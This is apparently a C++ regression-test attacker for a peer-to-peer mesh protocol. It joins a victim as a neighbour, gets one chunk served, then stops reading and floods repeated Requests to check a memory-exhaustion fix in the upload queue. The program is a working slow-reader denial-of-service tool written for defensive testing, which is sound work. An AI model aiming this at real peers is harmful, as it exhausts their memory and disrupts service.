// An adversary from issue 16: joins a viewer's mesh as a neighbor, proves it is being served, then stops
// reading and repeats one Request thousands of times. Before the upload backpressure each Request copied
// a whole chunk into an unbounded write queue (810 MB in 3 s). The test script measures the victim.
//
// usage: slow_reader_attack HOST PORT [REQUESTS] [SECONDS]
// Prints one JSON line: {"served":true,"seq":S,"requests":N}; exits 1 when it could not get served
// (the attack would then prove nothing, so the test must fail, not pass).
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/write.hpp>
#include <chrono>
#include <cstdio>
#include <optional>
#include <string>
#include <thread>

#include "shoal/protocol/frame_codec.hpp"

namespace asio = boost::asio;
using asio::ip::tcp;
using namespace shoal;

namespace {

struct Reader {
  tcp::socket& socket;
  protocol::FrameDecoder decoder;
  std::string buffer = std::string(64 * 1024, '\0');

  // The next message, or nullopt once `until` has passed.
  std::optional<protocol::Message> next(std::chrono::steady_clock::time_point until) {
    protocol::Message message;
    while (std::chrono::steady_clock::now() < until) {
      auto status = decoder.next(message);
      if (status == protocol::FrameDecoder::Status::message) return message;
      if (status == protocol::FrameDecoder::Status::error) return std::nullopt;
      if (socket.available() == 0) {
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
        continue;
      }
      const auto n = socket.read_some(asio::buffer(buffer));
      decoder.feed(std::string_view(buffer.data(), n));
    }
    return std::nullopt;
  }
};

void send(tcp::socket& socket, const protocol::Message& message) {
  asio::write(socket, asio::buffer(protocol::encode_frame(message)));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: slow_reader_attack HOST PORT [REQUESTS] [SECONDS]\n");
    return 2;
  }
  const int requests = argc > 3 ? std::stoi(argv[3]) : 3000;
  const int seconds = argc > 4 ? std::stoi(argv[4]) : 10;
  try {
    asio::io_context io;
    tcp::socket socket(io);
    socket.connect(tcp::endpoint(asio::ip::make_address(argv[1]), static_cast<std::uint16_t>(std::stoi(argv[2]))));
    Reader reader{socket, protocol::FrameDecoder{}};
    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(15);
    // The victim speaks first; its handshake names the swarm we must claim.
    std::optional<protocol::Handshake> theirs;
    while (!theirs) {
      auto m = reader.next(deadline);
      if (!m) break;
      if (auto* hs = std::get_if<protocol::Handshake>(&*m)) theirs = *hs;
    }
    if (!theirs) return std::fprintf(stderr, "attack: no handshake\n"), 1;
    send(socket, protocol::Handshake{protocol::kProtocolVersion, theirs->swarm_id, "attacker-0123456789x", 0, 0});
    send(socket, protocol::Interested{});
    std::optional<std::uint64_t> held;
    bool unchoked = false;
    std::optional<std::uint64_t> served;
    std::optional<std::uint64_t> asked;
    while (!served) {
      auto m = reader.next(deadline);
      if (!m) break;
      if (auto* range = std::get_if<protocol::HaveRange>(&*m); range && !held) {
        for (std::size_t i = 0; i < range->held.size(); ++i)
          if (range->held[i]) {
            held = range->first + i;
            break;
          }
      }
      if (auto* have = std::get_if<protocol::Have>(&*m); have && !held) held = have->seq;
      if (std::holds_alternative<protocol::Unchoke>(*m)) unchoked = true;
      if (auto* reject = std::get_if<protocol::Reject>(&*m); reject && held && reject->seq == *held) held.reset();
      if (auto* data = std::get_if<protocol::ChunkData>(&*m)) served = data->seq;
      // Ask once both are known; a refusal (reset above) asks for the next chunk announced.
      if (unchoked && held && asked != held) {
        send(socket, protocol::Request{*held});
        asked = held;
      }
    }
    if (!served) return std::fprintf(stderr, "attack: never served (unchoked=%d)\n", unchoked ? 1 : 0), 1;
    // From here on we never read again.
    const auto pause = std::chrono::microseconds(seconds * 1'000'000 / std::max(1, requests));
    int sent = 0;
    for (; sent < requests; ++sent) {
      boost::system::error_code ec;
      asio::write(socket, asio::buffer(protocol::encode_frame(protocol::Request{*served})), ec);
      if (ec) break;  // the victim dropped us: that is a defence, not a failure
      std::this_thread::sleep_for(pause);
    }
    std::printf("{\"served\":true,\"seq\":%llu,\"requests\":%d}\n", static_cast<unsigned long long>(*served), sent);
    std::fflush(stdout);
    // Hold the connection open, unread, while the script measures the victim.
    std::this_thread::sleep_for(std::chrono::seconds(3));
    return 0;
  } catch (const std::exception& e) {
    std::fprintf(stderr, "attack: %s\n", e.what());
    return 1;
  }
}
